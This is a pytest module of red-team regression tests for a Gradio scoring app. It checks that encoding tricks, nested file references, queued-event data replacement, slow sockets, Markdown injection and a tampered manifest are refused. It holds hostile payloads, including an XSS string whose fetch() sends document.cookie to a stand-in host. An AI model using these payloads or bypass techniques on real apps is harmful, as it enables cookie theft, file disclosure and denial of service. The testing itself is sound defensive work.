"""The red team's findings (issue 10) against a running app, and what an attacker tries next.

Grouped by what they check: the gate, one file per call, wide files, slow senders, disk, ids,
Markdown in the summary, smaller ones, servers on their own bundles. The session app (`app_url`) serves the default
bundle; `tight_url` runs with small caps and a short body deadline; two more servers serve a
tampered and a broken bundle; one test builds the app in process without the gate. All traffic
goes to 127.0.0.1, in loops that stop by themselves."""
from __future__ import annotations

import csv
import io
import json
import shutil
import socket
import threading
import time
from pathlib import Path
from urllib.parse import urlsplit

import httpx
import pytest

from tests.redteam import customers, fn_index, log_tracebacks, ref, rss_mb, served, server_pid, upload
from tests.server import running_app
from tests.surfaces import assert_clear, assert_no_leak, gradio_call

SECRET_HEADER = "db_password,api_key"
TIGHT_ENV = {"MAX_UPLOAD_BYTES": "300000", "MAX_UPLOAD_REQUEST_BYTES": "400000", "BODY_TIMEOUT_S": "1",
             "MAX_DISK_BYTES_PER_CLIENT": "200000", "JSON_CONCURRENCY": "2"}


@pytest.fixture(scope="module")
def tight_url(artifacts_dir):
    with running_app(TIGHT_ENV, log_path=artifacts_dir / "app-tight.log") as url:
        yield url


@pytest.fixture
def secret_csv(tmp_path) -> Path:
    path = tmp_path / "secret.csv"
    path.write_text(f"{SECRET_HEADER}\nhunter2,sk-live-123\n")
    return path


# -- the gate sees what the server parses -----------------------------------------------------
ENCODINGS = ["utf-8-sig", "utf-16", "utf-16-le", "utf-16-be", "utf-32", "utf-32-le", "utf-32-be"]
ROUTES = ["call/predict_batch", "call/v2/predict_batch", "queue/join", "call/predict"]


def _body(route: str, path: str) -> dict:
    if route.startswith("call/v2"):
        return {"file": ref(path)}
    if route == "queue/join":
        return {"data": [ref(path)], "fn_index": 0, "session_hash": "redteam"}  # refused before the index matters
    return {"data": [ref(path)]}


@pytest.mark.parametrize("encoding", ENCODINGS)
@pytest.mark.parametrize("route", ROUTES)
def test_bodies_that_are_not_plain_utf8_json_are_refused(route, encoding, app_url, secret_csv):
    body = json.dumps(_body(route, str(secret_csv))).encode(encoding)
    r = httpx.post(f"{app_url}/gradio_api/{route}", content=body, headers={"content-type": "application/json"})
    assert r.status_code == 400, (r.status_code, r.text[:300])
    assert "UTF-8" in r.json()["error"] and SECRET_HEADER not in r.text


@pytest.mark.parametrize("body", [
    b'{"data": ["\xed\xa0\x80"]}',  # a UTF-16 surrogate encoded as UTF-8: json.loads(bytes) takes it
    b'{"data": ["caf\xe9"]}',  # Latin-1
    b'\x00{\x00"\x00d\x00a\x00t\x00a\x00"\x00:\x00[\x00]\x00}',  # UTF-16-BE that is also valid UTF-8
    b'{"data": [1]} trailing', b"[" * 5000 + b"]" * 5000,
], ids=["surrogate", "latin1", "utf16be_ascii", "trailing_garbage", "deep_nesting"])
def test_other_bytes_the_gate_cannot_read_are_refused(body, app_url):
    r = httpx.post(f"{app_url}/gradio_api/call/segment_plot", content=body,
                   headers={"content-type": "application/json"})
    assert r.status_code == 400 and "JSON" in r.json()["error"], r.text[:300]


def test_no_encoding_trick_scores_a_foreign_file(app_url, secret_csv):
    """The original exploit, end to end: nothing comes back that was read from the file."""
    for encoding in ENCODINGS:
        body = json.dumps({"data": [ref(str(secret_csv))]}).encode(encoding)
        r = httpx.post(app_url + "/gradio_api/call/predict_batch", content=body,
                       headers={"content-type": "application/json"})
        if r.status_code == 200:
            stream = httpx.get(f"{app_url}/gradio_api/call/predict_batch/{r.json()['event_id']}", timeout=30).text
            assert "db_password" not in stream and "hunter2" not in stream, (encoding, stream[:300])
        assert r.status_code == 400, (encoding, r.status_code)


@pytest.mark.parametrize("depth", [21, 60])
def test_deeply_nested_file_references_are_refused(depth, app_url, secret_csv):
    """Gradio copies every file reference in an input into its cache, at any depth; the gate
    looked 20 levels deep, so a 21-deep reference in a dropdown value was copied and its new
    path echoed back, readable through /gradio_api/file=."""
    value = ref(str(secret_csv))
    for _ in range(depth):
        value = [value]
    kind, text = gradio_call(app_url, "segment_plot", [value])
    assert kind == "http 403", (kind, str(text)[:300])
    assert "hunter2" not in text and "/gradio/" not in text


def test_file_references_only_where_a_file_goes(app_url, predictor):
    path = upload(app_url, customers(predictor, 2, tag="x"))
    for api, data in [("segment_plot", [ref(path)]), ("segment_plot", [[ref(path)]]),
                      ("predict_batch", [[ref(path)]]), ("predict_batch", [{"x": ref(path)}])]:
        kind, text = gradio_call(app_url, api, data)
        assert kind == "http 422", (api, kind, str(text)[:300])
        assert_clear(json.loads(text)["error"])


@pytest.mark.parametrize("value", [{"path": "x.csv", "meta": "gradio.FileData"}, {"path": "x.csv", "meta": []},
                                   {"path": "/tmp/gradio/a\u0000.csv", "meta": {"_type": "gradio.FileData"}},
                                   {"path": 7, "meta": {"_type": "gradio.FileData"}}],
                         ids=["meta_string", "meta_list", "nul_in_path", "path_number"])
@pytest.mark.parametrize("api", ["predict_batch", "segment_plot"])
def test_malformed_file_references_get_a_clear_4xx(api, value, app_url):
    kind, text = gradio_call(app_url, api, [value])
    assert kind in ("http 400", "http 403", "http 422"), (kind, str(text)[:300])
    assert_clear(json.loads(text)["error"])


def test_foreign_files_elsewhere_in_the_body_and_scored_outputs_are_refused(app_url, predictor, secret_csv):
    body = {"data": ["age"], "fn_index": fn_index(app_url, "segment_plot"), "session_hash": "s",
            "event_data": {"x": [ref(str(secret_csv))]}}
    r = httpx.post(app_url + "/gradio_api/queue/join", json=body)
    assert r.status_code == 403 and "hunter2" not in r.text
    kind, out = gradio_call(app_url, "predict_batch", [ref(upload(app_url, customers(predictor, 3, tag="mine")))])
    assert kind == "complete", out
    scored = out[0]["path"]  # inside the upload folder, but nobody uploaded it
    kind, message = gradio_call(app_url, "predict_batch", [ref(scored)])
    assert kind == "error" and "was not uploaded to this app" in message


@pytest.mark.parametrize("ctype", ["text/plain", "multipart/form-data; boundary=x", "application/x-www-form-urlencoded",
                                   None])
def test_other_content_types_never_reach_a_handler(ctype, app_url, secret_csv):
    """The gate passes form posts through unparsed; FastAPI parses JSON only for JSON types."""
    headers = {"content-type": ctype} if ctype else {}
    r = httpx.post(app_url + "/gradio_api/call/predict_batch", headers=headers,
                   content=json.dumps({"data": [ref(str(secret_csv))]}))
    assert r.status_code in (400, 403, 422), (ctype, r.status_code, r.text[:200])
    assert "hunter2" not in r.text and SECRET_HEADER not in r.text


def test_stream_and_component_server_routes_are_closed(app_url, predictor, secret_csv):
    """This app has no streaming inputs and no component server functions: POST /stream/<event>
    would replace a queued event's data (a way round the gate), /component_server answered 500."""
    r = httpx.post(app_url + "/gradio_api/stream/anything", json={"data": [], "session_hash": "s"})
    assert r.status_code == 404 and "streaming" in r.json()["error"]
    r = httpx.post(app_url + "/gradio_api/component_server",
                   json={"data": 1, "component_id": 99999, "session_hash": "s", "fn_name": "x"})
    assert r.status_code == 404, r.text[:300]
    r = httpx.post(app_url + "/gradio_api/component_server", files={"f": ("a", b"x")},
                   data={"component_id": "99999", "session_hash": "s", "fn_name": "x"})  # multipart: was a 500
    assert r.status_code == 404, r.text[:300]


def test_a_queued_event_cannot_get_its_data_replaced(app_url, predictor, secret_csv):
    """Found while testing the gate: POST /stream/<event id> replaced a queued event's data after
    the gate had checked it, so a foreign file was scored. Busy workers keep the victim queued."""
    busy = upload(app_url, customers(predictor, 100_000, tag="busy"))
    for _ in range(6):
        httpx.post(app_url + "/gradio_api/call/predict_batch", json={"data": [ref(busy)]}).raise_for_status()
    victim = httpx.post(app_url + "/gradio_api/call/predict_batch",
                        json={"data": [ref(upload(app_url, customers(predictor, 3, tag="mine")))]}).json()["event_id"]
    r = httpx.post(f"{app_url}/gradio_api/stream/{victim}", json={
        "data": [ref(str(secret_csv))], "fn_index": fn_index(app_url, "predict_batch"), "session_hash": victim})
    assert r.status_code == 404, r.text[:300]
    stream = httpx.get(f"{app_url}/gradio_api/call/predict_batch/{victim}", timeout=120).text
    assert "event: complete" in stream and "db_password" not in stream and "hunter2" not in stream


def test_batch_handler_checks_its_file_without_the_gate(secret_csv, predictor):
    """Defence in depth, in process: the gate removed, a foreign path reaches predict_batch,
    which refuses it without reading it (so the file's header is not echoed)."""
    from fastapi.testclient import TestClient

    from app import create_app
    from space.http.gate import GradioGate
    from space.settings import load_settings
    app = create_app(load_settings({}))
    app.user_middleware = [m for m in app.user_middleware if m.cls is not GradioGate]
    with TestClient(app) as client:
        event = client.post("/gradio_api/call/predict_batch", json={"data": [ref(str(secret_csv))]}).json()
        stream = client.get(f"/gradio_api/call/predict_batch/{event['event_id']}").text
        assert "event: error" in stream and "was not uploaded to this app" in stream, stream[:300]
        assert "db_password" not in stream and "hunter2" not in stream
        good = upload_in_process(client, customers(predictor, 3, tag="ok"))
        event = client.post("/gradio_api/call/predict_batch", json={"data": [ref(good)]}).json()
        stream = client.get(f"/gradio_api/call/predict_batch/{event['event_id']}").text
        assert "event: complete" in stream, stream[:300]


def upload_in_process(client, data: bytes) -> str:
    return client.post("/gradio_api/upload", files={"files": ("c.csv", data, "text/csv")}).json()[0]


# -- every call its own file -------------------------------------------------------------------
def test_concurrent_same_name_uploads_get_their_own_rows(app_url, predictor):
    visitors = 12
    paths = [upload(app_url, customers(predictor, 300 + i, tag=f"v{i}")) for i in range(visitors)]
    answers: dict[int, object] = {}

    def visit(i: int) -> None:
        answers[i] = gradio_call(app_url, "predict_batch", [ref(paths[i])], timeout=120)
    threads = [threading.Thread(target=visit, args=(i,)) for i in range(visitors)]
    for t in threads:
        t.start()
    for t in threads:
        t.join(180)
    outputs = set()
    for i in range(visitors):
        kind, out = answers[i]
        assert kind == "complete", (i, str(out)[:300])
        outputs.add(out[0]["path"])
        rows = list(csv.DictReader(io.StringIO(served(app_url, out[0]["path"]).decode())))
        assert len(rows) == 300 + i and {r["id"].split("-")[0] for r in rows} == {f"v{i}"}
    assert len(outputs) == visitors and len({Path(p).parent for p in outputs}) == visitors


# -- wide files --------------------------------------------------------------------------------
def test_a_very_wide_file_is_refused_before_parsing(app_url, predictor):
    """The red team's file: the schema's columns and 400,000 more, ~3.5 MB, took 36 s and 3.4 GB."""
    pid = server_pid(app_url)
    before = rss_mb(pid)
    ex, n = predictor.schema.example(), 400_000 - len(predictor.schema.names)
    header = ",".join([*ex, *(f"c{i}" for i in range(n))])
    row = ",".join([*(str(v) for v in ex.values()), *("1" for _ in range(n))])
    wide = f"{header}\n{row}\n".encode()
    kind, message = gradio_call(app_url, "predict_batch", [ref(upload(app_url, wide, name="wide.csv"))], timeout=120)
    assert kind == "error" and "400,000 columns" in message and "1,000" in message, message[:300]
    assert_clear(message)
    grown = rss_mb(pid) - before
    assert grown < 300, f"RSS grew {grown:.0f} MB for one wide upload"


# -- slow senders cost a socket, not a worker ---------------------------------------------------
def test_idle_sockets_do_not_deny_the_json_route(tight_url, predictor):
    host, port = urlsplit(tight_url).hostname, urlsplit(tight_url).port
    idle = []
    try:
        for _ in range(40):  # JSON_CONCURRENCY=2
            s = socket.create_connection((host, port), timeout=10)
            s.sendall(b"POST /predict HTTP/1.1\r\nHost: x\r\nContent-Type: application/json\r\n"
                      b"Content-Length: 400\r\n\r\n{")
            idle.append(s)
        time.sleep(0.3)
        with httpx.Client(timeout=30) as c:
            statuses = [c.post(tight_url + "/predict", json=predictor.schema.example()).status_code
                        for _ in range(10)]
        assert statuses == [200] * 10
    finally:
        for s in idle:
            s.close()


def test_a_body_that_never_arrives_gets_408_on_both_doors(tight_url):
    host, port = urlsplit(tight_url).hostname, urlsplit(tight_url).port
    for path in ("/predict", "/gradio_api/call/predict", "/gradio_api/queue/join"):
        with socket.create_connection((host, port), timeout=15) as s:
            s.sendall(f"POST {path} HTTP/1.1\r\nHost: x\r\nContent-Type: application/json\r\n"
                      "Content-Length: 100\r\n\r\n{\"data\"".encode())
            answer = s.recv(4096).decode(errors="replace")  # BODY_TIMEOUT_S=1
        assert answer.startswith("HTTP/1.1 408"), (path, answer[:200])


def test_a_stalled_upload_is_cut_off(tight_url, artifacts_dir):
    """An upload that stops sending holds a socket and a parser; after 3 x BODY_TIMEOUT_S without a
    byte it gets 408, and nothing is logged as a crash."""
    host, port = urlsplit(tight_url).hostname, urlsplit(tight_url).port
    before = log_tracebacks(artifacts_dir / "app-tight.log")
    with socket.create_connection((host, port), timeout=30) as s:
        s.sendall(b"POST /gradio_api/upload HTTP/1.1\r\nHost: x\r\nContent-Type: multipart/form-data; boundary=b\r\n"
                  b"Content-Length: 100000\r\n\r\n--b\r\nContent-Disposition: form-data; name=\"files\"; "
                  b"filename=\"a.csv\"\r\n\r\nage\n1\n")
        answer = s.recv(4096).decode(errors="replace")
    assert answer.startswith("HTTP/1.1 408"), answer[:300]
    time.sleep(0.5)
    assert log_tracebacks(artifacts_dir / "app-tight.log") == before


@pytest.mark.parametrize("ctype, status", [
    ("text/plain; x=json", 415), ("text/plain", 415), ("application/jsonx", 415), ("application/x-json", 415),
    ("json", 415), ("multipart/form-data; boundary=json", 415), (None, 415),
    ("application/json", 200), ("application/json; charset=utf-8", 200), ("Application/JSON", 200),
    ("application/vnd.api+json", 200), ("application/merge-patch+json; charset=utf-8", 200),
])
def test_json_route_takes_only_json_content_types(ctype, status, app_url, predictor):
    headers = {"content-type": ctype} if ctype else {}
    r = httpx.post(app_url + "/predict", content=json.dumps(predictor.schema.example()), headers=headers)
    assert r.status_code == status, (ctype, r.text[:200])
    if status == 415:
        assert "application/json" in r.json()["error"]


# -- disk ---------------------------------------------------------------------------------------
def test_batch_output_stays_within_the_disk_budget(tight_url, predictor):
    """MAX_DISK_BYTES_PER_CLIENT=200000 (uploads and scored files); each scored file here is ~60 kB."""
    folders, sizes = set(), []
    for i in range(8):
        path = upload(tight_url, customers(predictor, 400, tag=f"d{i}"))
        kind, out = gradio_call(tight_url, "predict_batch", [ref(path)])
        assert kind == "complete", out
        path = Path(out[0]["path"])
        sizes.append(path.stat().st_size)
        folders.add(path.parent.parent)
    assert len(folders) == 1 and min(sizes) > 40_000
    root = folders.pop()
    used = sum(f.stat().st_size for f in root.rglob("*") if f.is_file())
    assert used <= 200_000 + 4096, used
    assert len(list(root.glob("call-*/*.csv"))) < 8  # the oldest were evicted


def test_uploads_have_a_total_per_request(tight_url):
    three = [("files", (f"p{i}.csv", b"age\n" + b"1\n" * 100_000, "text/csv")) for i in range(3)]  # 600 kB
    r = httpx.post(tight_url + "/gradio_api/upload", files=three, timeout=30)
    assert r.status_code == 413 and "400,000" in r.text, r.text[:300]

    def chunked():
        yield b"--b\r\nContent-Disposition: form-data; name=\"files\"; filename=\"a.csv\"\r\n\r\nage\n1\n\r\n--b--\r\n"
    r = httpx.post(tight_url + "/gradio_api/upload", content=chunked(),
                   headers={"content-type": "multipart/form-data; boundary=b"})
    assert r.status_code == 411, r.text[:300]
    r = httpx.post(tight_url + "/gradio_api/upload", files={"files": ("ok.csv", b"age\n1\n", "text/csv")})
    assert r.status_code == 200


# -- ids ----------------------------------------------------------------------------------------
@pytest.mark.parametrize("header", ["ID", "Id", " id ", "iD"])
def test_id_column_is_matched_like_the_features(header, app_url, predictor):
    path = upload(app_url, customers(predictor, 5, tag="c", id_header=header))
    kind, out = gradio_call(app_url, "predict_batch", [ref(path)])
    assert kind == "complete", out
    rows = list(csv.DictReader(io.StringIO(served(app_url, out[0]["path"]).decode())))
    assert [r["id"] for r in rows] == [f"c-{i}" for i in range(5)]


# -- Markdown in the summary ---------------------------------------------------------------------
def test_cells_cannot_inject_markdown_into_the_summary(app_url, predictor):
    from markdown_it import MarkdownIt
    names = list(predictor.schema.example())
    cat = predictor.schema.categorical[0].name
    payloads = ["![x](http://127.0.0.1:9/pixel.png)", "[click me](http://127.0.0.1:9/phish)",
                "<img src=x onerror=alert(1)>", "http://127.0.0.1:9/auto", "`code` **bold** | pipe"]
    buf = io.StringIO()
    w = csv.writer(buf, lineterminator="\n")
    w.writerow(names)
    for p in payloads:
        w.writerow([p if n == cat else v for n, v in predictor.schema.example().items()])
    kind, out = gradio_call(app_url, "score_file", [ref(upload(app_url, buf.getvalue().encode()))])  # the page's event
    assert kind == "complete", out
    summary = out[2]  # outputs: scored file, audiences zip, summary, preview
    assert isinstance(summary, str) and "rows scored" in summary, out
    assert "://" not in summary  # nothing left for a renderer that links bare URLs (GFM autolinks)
    html = MarkdownIt("commonmark").enable("table").render(summary)
    assert "<img" not in html and "<a " not in html and "<code>" not in html and "<strong>bold" not in html
    assert "click me" in html and "pixel.png" in html  # shown as text


@pytest.mark.parametrize("text", ["![x](http://127.0.0.1:9/p.png)", "[a](javascript:alert(1))", "<b>x</b>",
                                  "www.example.com", "line\n# heading", "a | b", "&lt;img&gt;", "\\*x*", "~~s~~"])
def test_summary_text_renders_as_literal_text(text):
    from markdown_it import MarkdownIt

    from space.render.pages import batch_summary
    summary = {"rows": 2, "scored": 1, "rejected": 1, "unlike_training": 0, "per_segment": {text: 1},
               "errors": [{"line": 3, "error": text}]}
    html = MarkdownIt("commonmark").enable("table").render(batch_summary(summary))
    for tag in ("<img", "<a ", "<b>", "<h1", "<del", "<em"):
        assert tag not in html, (tag, html)
    assert html.count("<td") == 2  # the table keeps its two columns


# -- smaller ones -----------------------------------------------------------------------------
def test_upload_without_a_file_name_is_a_4xx(app_url):
    r = httpx.post(app_url + "/gradio_api/upload", files={"files": ("", b"age\n1\n", "text/csv")})  # was a 500
    assert r.status_code == 400 and "file name" in r.text, r.text[:300]
    for disposition, status in [('name="files"', 400), ('name="files"; filename=""', 200)]:
        body = (f"--b\r\nContent-Disposition: form-data; {disposition}\r\nContent-Type: text/csv\r\n\r\n"
                "age\n1\n\r\n--b--\r\n").encode()
        r = httpx.post(app_url + "/gradio_api/upload", content=body,
                       headers={"content-type": "multipart/form-data; boundary=b"})
        assert r.status_code == status, (disposition, r.text[:300])  # an empty name: Gradio makes one up


def test_unknown_sessions_do_not_flood_the_log(tight_url, artifacts_dir):
    log = artifacts_dir / "app-tight.log"
    before = log_tracebacks(log)
    for path in ["/gradio_api/queue/data?session_hash=nope", "/gradio_api/call/predict/0123456789abcdef",
                 "/gradio_api/call/v2/predict/nope"]:
        for _ in range(3):
            with httpx.stream("GET", tight_url + path, timeout=15) as r:
                text = "".join(r.iter_text())  # must end cleanly (no broken chunked stream)
            assert r.status_code in (200, 404) and "Traceback" not in text
    time.sleep(0.5)
    assert log_tracebacks(log) == before


@pytest.mark.parametrize("api", ["segment_plot", "data_plot"])
def test_plots_do_not_echo_huge_values(api, app_url):
    kind, text = gradio_call(app_url, api, ["x" * 60_000])
    message = json.loads(text)["error"] if kind.startswith("http") else text
    assert kind in ("http 422", "error") and len(message) < 700, (kind, len(str(message)))
    assert_clear(message, allowed=["age", "income"], sent="x" * 60_000)


@pytest.mark.parametrize("route, body", [
    ("call/predict_batch", {"data": []}),
    ("call/v2/predict_batch", {"file": {"path": "/tmp/gradio/x.csv"}}),
    ("call/v2/predict_batch", {"file": "/tmp/gradio/x.csv"}),
    ("call/v2/predict_batch", {}),
], ids=["empty_data", "v2_no_meta", "v2_string", "v2_missing"])
def test_batch_calls_without_a_proper_file_name_the_field(route, body, app_url):
    r = httpx.post(f"{app_url}/gradio_api/{route}", json=body)
    assert r.status_code == 422, r.text[:300]
    assert_clear(r.json()["error"], field="file")


# -- servers on their own bundles ------------------------------------------------------
XSS = '<img src=x onerror="fetch(`//127.0.0.1:9/`+document.cookie)">'


@pytest.fixture(scope="module")
def tampered_bundle(default_bundle, tmp_path_factory):
    """The default bundle with hostile text in manifest fields that reach HTML (the manifest is
    the root of trust, so a changed manifest still loads)."""
    out = tmp_path_factory.mktemp("tampered") / "bundle"
    shutil.copytree(default_bundle, out)
    manifest = json.loads((out / "manifest.json").read_text())
    manifest["title"] = "<script>alert(1)</script>" + XSS
    manifest["segments"][0]["name"] = XSS
    (out / "manifest.json").write_text(json.dumps(manifest))
    return out


def test_tampered_bundle_is_escaped_and_batch_files_go_at_shutdown(tampered_bundle, tmp_path, artifacts_dir,
                                                                         predictor):
    cache = tmp_path / "gradio-cache"
    orphan = cache / "segments-batch-orphan"  # left by a server that was killed
    (orphan / "call-1").mkdir(parents=True)
    (orphan / ".lock").write_text("")
    (orphan / "call-1" / "scored_x.csv").write_text("customer rows")
    with running_app({"MODEL_DIR": str(tampered_bundle), "GRADIO_TEMP_DIR": str(cache)},
                     log_path=artifacts_dir / "app-tampered.log") as url:
        from markdown_it import MarkdownIt
        props = [c.get("props", {}) for c in httpx.get(url + "/config").json()["components"]]
        header = next(p["value"] for p in props if "app-header" in str(p.get("value")))
        assert "&lt;img src=x" in header and "<img" not in header and "<script>" not in header
        cards = [str(p["value"]) for p in props if "segment-card" in str(p.get("value"))]
        assert cards and "&lt;img src=x" in cards[0] and "<img" not in cards[0]
        markdown = [str(p["value"]) for p in props if "k = " in str(p.get("value"))]
        assert markdown and "<img" not in MarkdownIt("commonmark").render(markdown[0])
        assert "<script>alert(1)" not in httpx.get(url + "/").text
        assert not orphan.exists()
        kind, out = gradio_call(url, "predict_batch", [ref(upload(url, customers(predictor, 5, tag="s")))])
        assert kind == "complete", out
        scored = Path(out[0]["path"])
        root = scored.parent.parent
        assert scored.is_file() and root.parent == cache.resolve()
    assert not root.exists() and not scored.exists()


def test_bad_model_dir_falls_back_to_the_default_and_says_why(default_bundle, tmp_path, artifacts_dir):
    """A 171 MB summary.json (sparse: no disk used) is refused by size before it is hashed or
    parsed; the app serves the embedded default bundle and says why."""
    bad = tmp_path / "bad"
    shutil.copytree(default_bundle, bad)
    with open(bad / "summary.json", "r+b") as fh:
        fh.truncate(171 * 2**20)
    with running_app({"MODEL_DIR": str(bad)}, log_path=artifacts_dir / "app-badbundle.log") as url:
        source = httpx.get(url + "/health").json()["bundle"]
        assert source["path"] == "model/artifacts/default"
        assert "summary.json" in source["fallback_reason"] and "MB" in source["fallback_reason"]
        assert_no_leak(source["fallback_reason"])
        assert "summary.json" in httpx.get(url + "/config").text  # the banner


def test_bundle_json_files_are_capped_before_hashing_or_parsing(default_bundle, tmp_path, monkeypatch):
    import model.contract.bundle
    from model.contract.errors import BundleError
    bad = tmp_path / "b"
    shutil.copytree(default_bundle, bad)
    with open(bad / "summary.json", "r+b") as fh:
        fh.truncate(171 * 2**20)  # sparse: no disk used
    monkeypatch.setattr(model.contract.bundle, "sha256_file", lambda p: pytest.fail(f"hashed {p.name} first"))
    with pytest.raises(BundleError, match=r"summary.json is 179,306,496 bytes \(171.0 MB\).*at most 8 MB"):
        model.contract.bundle.read_bundle(bad)
    with open(bad / "manifest.json", "r+b") as fh:
        fh.truncate(9 * 2**20)
    with pytest.raises(BundleError, match=r"manifest.json is .* at most 8 MB"):
        model.contract.bundle.read_manifest(bad)


def test_a_bad_model_dir_falls_back_in_the_loader(tmp_path):
    from space.loader import load_live
    from space.settings import load_settings
    (tmp_path / "nothing").mkdir()
    live = load_live(load_settings({"MODEL_DIR": str(tmp_path / "nothing")}))
    assert live.source.path == "model/artifacts/default" and live.predictor.k >= 2
    assert live.source.fallback_reason.startswith("local bundle nothing not used: ")
    assert str(tmp_path) not in live.source.fallback_reason


def test_a_manifest_with_a_non_integer_k_is_refused_and_the_default_served(default_bundle, tmp_path):
    """The typed manifest refuses a k that is no integer (here, HTML): it never reaches a page."""
    from space.loader import load_live
    from space.settings import load_settings
    bad = tmp_path / "k"
    shutil.copytree(default_bundle, bad)
    manifest = json.loads((bad / "manifest.json").read_text())
    manifest["k"] = XSS
    (bad / "manifest.json").write_text(json.dumps(manifest))
    live = load_live(load_settings({"MODEL_DIR": str(bad)}))
    assert live.source.path == "model/artifacts/default"
    assert "manifest.json.k: expected int" in live.source.fallback_reason


def test_error_bodies_of_the_new_answers_leak_nothing(app_url):
    for body in [b"\xef\xbb\xbf{}", "{}".encode("utf-16")]:
        r = httpx.post(app_url + "/gradio_api/call/predict", content=body, headers={"content-type": "application/json"})
        assert r.status_code == 400
        assert_no_leak(r.text)
